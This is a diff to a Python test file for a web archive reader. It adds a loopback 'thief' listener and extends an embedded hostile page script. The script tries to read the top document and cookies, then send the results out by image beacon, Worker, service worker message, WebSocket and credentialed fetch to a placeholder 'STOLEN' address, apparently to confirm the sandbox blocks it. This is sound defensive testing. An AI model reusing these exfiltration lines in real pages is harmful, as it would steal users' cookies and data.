@@ -1,8 +1,14 @@
 """A captured page that tries what a page should not be able to do."""
 
+import contextlib
+import socket
+from collections.abc import Iterator
+from contextlib import contextmanager
 from datetime import date
 from pathlib import Path
+from threading import Thread
 
+from apps.ports import LOOPBACK
 from pressmark.archive.store import Store
 from pressmark.reader import Document, Reader
 from tests.pressmark.packages.conftest import SITE, URL, Days
@@ -27,6 +33,10 @@ addEventListener("load", async () => {
     attempt("document", () => { top.document.body.dataset.taken = "yes"; });
     attempt("real document", () => { above.document.body.dataset.taken = "yes"; return above.document.cookie; });
     attempt("image", () => { new Image().src = "STOLEN?image=" + encodeURIComponent(JSON.stringify(log)); });
+    const sent = {msg_type: "addColl", name: "x", file: {sourceUrl: "STOLEN?worker"}};
+    attempt("worker", () => new real.Worker("/show/news/replay/sw.js").postMessage(sent));
+    attempt("service worker", () => real.navigator.serviceWorker.controller.postMessage(sent));
+    attempt("socket", () => new real.WebSocket("STOLEN?socket".replace("http", "ws")));
     for (const address of ["STOLEN?fetch", "ROOM/articles/news/"]) {
         try {
             const answer = await fetch(address, {mode: "no-cors", credentials: "include"});
@@ -53,6 +63,26 @@ addEventListener("load", async () => {
 PAGE = """<!doctype html><html><head><title>Lamps lit</title><base target="_top"></head>
 <body><h1>Lamps lit</h1><div id="Content"><p>One line.</p></div><script>{script}</script></body></html>"""
 DAY = date(2026, 11, 24)
+
+
+@contextmanager
+def thief() -> Iterator[tuple[str, list[str]]]:
+    """Listen where a hostile page sends what it gets; hand out the address, and who connected with what."""
+    heard: list[str] = []
+    with socket.create_server((LOOPBACK, 0)) as listening:
+
+        def listen() -> None:
+            with contextlib.suppress(OSError):
+                while True:
+                    visitor, _ = listening.accept()
+                    with visitor:
+                        heard.append(visitor.recv(200).decode("latin-1"))
+
+        thread = Thread(target=listen, daemon=True)
+        thread.start()
+        yield f"http://{LOOPBACK}:{listening.getsockname()[1]}/stolen", heard
+        listening.shutdown(socket.SHUT_RDWR)
+    thread.join()
 
 
 def archive_hostile_page(store: Store, folder: Path, thief: str, room: str) -> Document:
